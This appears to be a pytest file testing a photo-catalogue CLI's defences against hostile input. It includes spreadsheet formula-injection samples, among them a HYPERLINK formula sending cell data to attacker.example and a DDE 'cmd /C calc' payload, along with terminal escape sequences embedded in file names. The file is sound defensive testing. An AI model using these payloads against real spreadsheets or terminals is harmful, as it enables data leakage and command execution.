"""The CLI against hostile files and values (issue 21): spreadsheet formulas in EXIF and tags, control characters
in file names, damaged catalogues, values argparse used to let through, unexpected errors and absent extras. Each
ends as the right answer or one line, never a traceback, never a raw escape on the terminal."""

from __future__ import annotations

import ast
import csv
import io
import json
import os
import shutil
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from test_photo_meta import write_exif_photo  # tests/ is on sys.path (pytest rootdir import mode)

from vistext.cli import main
from vistext.cli.output import terminal_safe
from vistext.errors import UsageError
from vistext.service import Service
from vistext.service.filters import parse_filter
from vistext.service.results import TagResult

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
COMMAND = "+cmd|' /C calc'!A0"
TAG_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"
SYDNEY = (-33.8688, 151.2093)
# names a terminal would obey: clear the screen, retitle the window, forge a line, reverse the text
HOSTILE_NAMES = (
    "esc\x1b[2Jname.png",
    "title\x1b]0;pwned\x07.png",
    "line\nbreak.png",
    "cr\rname.png",
    "bidi\u202egnp.png",
)
RAW = ("\x1b", "\x07", "\r", "\u202e")


@pytest.fixture(scope="module")
def hostile(sample_photos: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An indexed folder of real photos named with control characters, one whose EXIF camera is a formula,
    a file that fails to decode, and a tag that is a formula."""
    folder = tmp_path_factory.mktemp("hostile")
    sources = sorted(p for p in sample_photos.iterdir() if p.suffix == ".png")
    for name, source in zip(HOSTILE_NAMES, sources, strict=False):
        shutil.copy(source, folder / name)
    write_exif_photo(sample_photos / "chelsea.png", folder / "exif.jpg", make=HYPERLINK, model=COMMAND, gps=SYDNEY)
    (folder / "bad\x1b[31m.jpg").write_text("not a photo")
    assert main(["index", str(folder), "--quiet"]) == 0
    with Service(db=str(folder), progress=False) as service:
        [exif] = [item for item in service.list_images(k=50).results if item.path.endswith("exif.jpg")]
        service.store().set_tags("evil", {exif.id: [(TAG_FORMULA, 0.9), ("cat", 0.5)]})
        service.store().set_tags("default", {exif.id: []})  # the formula must be the cell's first tag
    return folder


def _out(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main([*argv, "--quiet"])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def _one_error_line(err: str) -> str:
    lines = err.splitlines()
    assert len(lines) == 1 and lines[0].startswith("vistext: "), err
    assert "Traceback" not in err
    return lines[0]


# ---- 1. CSV injection ---------------------------------------------------------------------------------------
def test_csv_export_quotes_formulas_through_the_cli_and_the_service(
    hostile: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = _out(capsys, "export", "--db", str(hostile))
    assert code == 0
    [row] = [r for r in csv.DictReader(io.StringIO(out)) if r["path"].endswith("exif.jpg")]
    assert row["camera_make"] == "'" + HYPERLINK and row["camera_model"] == "'" + COMMAND
    assert row["tags"] == f"'{TAG_FORMULA};cat"
    assert float(row["latitude"]) == pytest.approx(SYDNEY[0], abs=1e-3)  # a number, not quoted text
    assert not any(cell.startswith(("=", "+", "@")) for r in csv.reader(io.StringIO(out)) for cell in r)
    assert main(["export", "--db", str(hostile), "--out", str(tmp_path / "photos.csv"), "-q"]) == 0
    with (tmp_path / "photos.csv").open(encoding="utf-8", newline="") as written:
        assert written.read() == out
    # what /api/export answers: the service's lines, the same text
    with Service(db=str(hostile), progress=False) as service:
        assert "".join(service.export_lines(None, "csv")) == out
        [item] = [json.loads(line) for line in service.export_lines(None, "jsonl") if "exif.jpg" in line]
    assert item["meta"]["camera_make"] == HYPERLINK and item["tags"][0]["tag"] == TAG_FORMULA  # JSON stays exact


# ---- 3. terminal escapes ------------------------------------------------------------------------------------
def test_terminal_safe_shows_controls_as_escapes() -> None:
    assert terminal_safe("plain name é 名前.jpg") == "plain name é 名前.jpg"
    text = "a\x1b[2Jb\r\n\t\x7f\x9b\u202e\u2028\udc9b\udce9"
    assert terminal_safe(text) == "a\\x1b[2Jb\\x0d\\x0a\\x09\\x7f\\x9b\\u202e\\u2028\\x9b\udce9"


def test_printed_names_are_made_safe_for_a_terminal(
    hostile: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db = str(hostile)
    code, listed, _ = _out(capsys, "list", "--db", db)
    assert code == 0 and "esc\\x1b[2Jname.png" in listed and "line\\x0abreak.png" in listed
    code, found, _ = _out(capsys, "search", "a cat", "-k", "10", "--db", db)
    assert code == 0 and "cr\\x0dname.png" in found and "bidi\\u202egnp.png" in found
    assert len(found.splitlines()) == 6  # one line per photo: no name breaks a line
    code, similar, _ = _out(capsys, "similar", str(hostile / HOSTILE_NAMES[0]), "--include-self", "--db", db)
    assert code == 0 and "title\\x1b]0;pwned\\x07.png" in similar
    (tmp_path / "bad\x1b[31m.jpg").write_text("not a photo")
    code, indexed, _ = _out(capsys, "index", str(tmp_path))
    assert code == 0 and "failed: " in indexed and "bad\\x1b[31m.jpg" in indexed
    code, _, err = _out(capsys, "similar", str(hostile / "gone\x1b[2J.jpg"), "--db", db)
    assert code == 2 and "gone\\x1b[2J.jpg" in _one_error_line(err)
    for out in (listed, found, similar, indexed, err):
        assert not any(raw in out for raw in RAW), out
    code, past, _ = _out(capsys, "list", "--db", db, "--offset", "99999999999999999999")
    assert code == 0 and past == "no photos from 99999999999999999999 on (6 in all)\n"  # not "no photos indexed"
    code, document, _ = _out(capsys, "list", "--db", db, "--json")  # JSON is exact: the names round-trip
    names = {Path(item["path"]).name for item in json.loads(document)["results"]}
    assert set(HOSTILE_NAMES) <= names and names <= set(os.listdir(hostile))


# ---- 7. damaged or empty catalogues, bad dates --------------------------------------------------------------
def test_info_on_an_empty_and_an_all_failed_catalogue(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "empty").mkdir()
    (tmp_path / "failed").mkdir()
    (tmp_path / "failed" / "notes.jpg").write_text("not a photo")
    for folder, failed in (("empty", 0), ("failed", 1)):
        _out(capsys, "index", str(tmp_path / folder))
        code, out, err = _out(capsys, "info", "--db", str(tmp_path / folder))
        assert code == 0 and err == "" and f"0 indexed, {failed} failed to read" in out
        code, out, _ = _out(capsys, "info", "--db", str(tmp_path / folder), "--json")
        assert code == 0 and json.loads(out)["failed"] == failed


def test_a_date_that_is_not_one_is_one_line(hostile: Path, capsys: pytest.CaptureFixture[str]) -> None:
    for text in ("2023-02-29garbage", "2023-02-30", "2024-13-01", "yesterday", ""):
        code, _, err = _out(capsys, "list", "--after", text, "--db", str(hostile))
        assert code == 2 and "is not a date" in _one_error_line(err), text
        with pytest.raises(UsageError, match="not a date"):
            parse_filter(before=text)
    assert parse_filter(after="2023-02-29").after == parse_filter(after="2023-03-01").after  # a common year
    assert parse_filter(after="2024-02-29T10:00:00Z").after == parse_filter(after="2024-02-29 10:00").after


# ---- 4. values argparse let through -------------------------------------------------------------------------
@pytest.mark.parametrize("value", ["nan", "inf", "-inf", "1.5", "score"])
def test_min_score_must_be_a_score(hostile: Path, capsys: pytest.CaptureFixture[str], value: str) -> None:
    code, out, err = _out(capsys, "search", "a cat", "--min-score", value, "--db", str(hostile), "--json")
    assert code == 2 and "--min-score" in json.loads(out)["error"] and err.count("\n") == 1


@pytest.mark.parametrize("value", ["", " ", " , ,"])
def test_an_empty_vocabulary_is_refused(sample_photos: Path, capsys: pytest.CaptureFixture[str], value: str) -> None:
    code, _, err = _out(capsys, "tag", str(sample_photos / "chelsea.png"), "--vocab", value)
    assert code == 2 and "--vocab" in _one_error_line(err) and "empty" in err


def test_words_that_are_not_utf8_are_one_line(
    hostile: Path, sample_photos: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A byte that is not UTF-8 on a command line reaches Python as a lone surrogate, which SQLite and the
    tokenizer refuse with a UnicodeEncodeError or a TypeError: words are checked where they come in."""
    photo = str(sample_photos / "chelsea.png")
    for argv in (
        ["list", "--camera", "caf\udce9", "--db", str(hostile)],
        ["list", "--folder", "caf\udce9", "--db", str(hostile)],
        ["search", "caf\udce9", "--db", str(hostile)],
        ["match", photo, "caf\udce9 dog", "cat"],
        ["tag", photo, "--vocab", "caf\udce9,dog"],
    ):
        code, _, err = _out(capsys, *argv)
        assert code == 2 and "not valid UTF-8" in err and "Traceback" not in err, argv
    with pytest.raises(UsageError, match="tag: .* not valid UTF-8 text"):
        parse_filter(tag="caf\udce9")


# ---- 5. whatever goes wrong: one line and a status -----------------------------------------------------------
def _raise(error: BaseException) -> object:
    def raising(*args: object, **kwargs: object) -> object:
        raise error

    return raising


def test_an_unexpected_error_is_one_line_unless_debugging(
    hostile: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("VISTEXT_DEBUG", raising=False)
    monkeypatch.setattr(Service, "info", _raise(RuntimeError("boom\nsecond line")))
    code, _, err = _out(capsys, "info", "--db", str(hostile))
    line = _one_error_line(err)
    assert code == 2 and "internal error: RuntimeError: boom" in line and "VISTEXT_DEBUG=1" in line
    code, out, err = _out(capsys, "info", "--db", str(hostile), "--json")
    assert code == 2 and "RuntimeError: boom" in json.loads(out)["error"] and err.count("\n") == 1
    monkeypatch.setenv("VISTEXT_DEBUG", "1")
    with pytest.raises(RuntimeError, match="boom"):
        main(["info", "--db", str(hostile), "-q"])


@pytest.mark.parametrize(
    "error, code, expected",
    [
        (
            PermissionError(13, "Permission denied", "/photos/x.jpg"),
            2,
            "vistext: error: /photos/x.jpg: Permission denied",
        ),
        (KeyboardInterrupt(), 130, "vistext: interrupted"),
        (KeyboardInterrupt("at least 3 of 9 photos were written"), 130, "vistext: interrupted: at least 3 of 9"),
        (MemoryError(), 2, "vistext: internal error: MemoryError"),
    ],
)
def test_os_errors_interrupts_and_memory_are_one_line(
    hostile: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    error: BaseException,
    code: int,
    expected: str,
) -> None:
    monkeypatch.delenv("VISTEXT_DEBUG", raising=False)
    monkeypatch.setattr(Service, "list_images", _raise(error))
    got, out, err = _out(capsys, "list", "--db", str(hostile))
    assert got == code and out == "" and _one_error_line(err).startswith(expected)
    got, out, _ = _out(capsys, "list", "--db", str(hostile), "--json")
    assert got == code and json.loads(out)["error"]


def test_a_json_list_an_error_interrupts_stays_one_document(
    sample_photos: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    def tag_then_fail(self: Service, images: list[str], *args: object, **kwargs: object) -> Iterator[TagResult]:
        yield TagResult(images[0], [])
        raise RuntimeError("the model went away")

    monkeypatch.delenv("VISTEXT_DEBUG", raising=False)
    monkeypatch.setattr(Service, "tag", tag_then_fail)
    photos = [str(sample_photos / name) for name in ("chelsea.png", "coffee.png")]
    code, out, err = _out(capsys, "tag", *photos, "--json")
    [first, last] = json.loads(out)
    assert code == 2 and first["image"] == photos[0] and "the model went away" in last["error"]
    assert "the model went away" in _one_error_line(err)


def test_help_names_the_exit_statuses_and_the_debug_variable(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["--help"]) == 0
    out = " ".join(capsys.readouterr().out.split())
    assert "VISTEXT_DEBUG=1" in out and "130 interrupted" in out
    assert main(["--version"]) == 0 and capsys.readouterr().out.startswith("vistext ")


# ---- 8. an absent extra is one line naming it ----------------------------------------------------------------
@pytest.mark.parametrize(
    "argv, absent, extra",
    [
        (["serve", "--port", "8765"], "fastapi", "serve"),
        (["map", "--out", "map.html"], "fastapi", "serve"),
        (["bot", "--token-env", "VISTEXT_TEST_BOT_TOKEN"], "telegram", "bot"),
    ],
)
def test_an_absent_extra_is_named(
    hostile: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    argv: list[str],
    absent: str,
    extra: str,
) -> None:
    for name in [n for n in sys.modules if n.split(".")[:2] in (["vistext", "server"], ["vistext", "bot"])]:
        monkeypatch.delitem(sys.modules, name)  # imported again, meeting the absent package
    monkeypatch.setitem(sys.modules, absent, None)  # `import fastapi` raises ModuleNotFoundError
    monkeypatch.setenv("VISTEXT_TEST_BOT_TOKEN", "123:abc")
    monkeypatch.chdir(hostile)
    code, out, err = _out(capsys, *argv, "--db", str(hostile))
    assert code == 2 and out == ""
    assert f"pip install 'vistext[{extra}]'" in _one_error_line(err) and absent in err


# ---- 7 (issue 18). no import circle among the CLI's modules ------------------------------------------------
def test_the_cli_modules_import_no_circle() -> None:
    package = Path(main.__code__.co_filename).parent
    graph: dict[str, set[str]] = {}
    for path in package.glob("*.py"):
        found = set()
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.ImportFrom) and node.module == "vistext.cli":
                found.update(alias.name for alias in node.names)
            elif isinstance(node, ast.ImportFrom) and (node.module or "").startswith("vistext.cli."):
                found.add((node.module or "").removeprefix("vistext.cli."))
        graph[path.stem] = found - {path.stem}

    def reaches(start: str, target: str, seen: set[str]) -> bool:
        for step in graph.get(start, ()):
            if step == target or (step not in seen and reaches(step, target, seen | {step})):
                return True
        return False

    circles = sorted(name for name in graph if name != "__init__" and reaches(name, name, {name}))
    assert not circles, f"import circles through: {circles}"
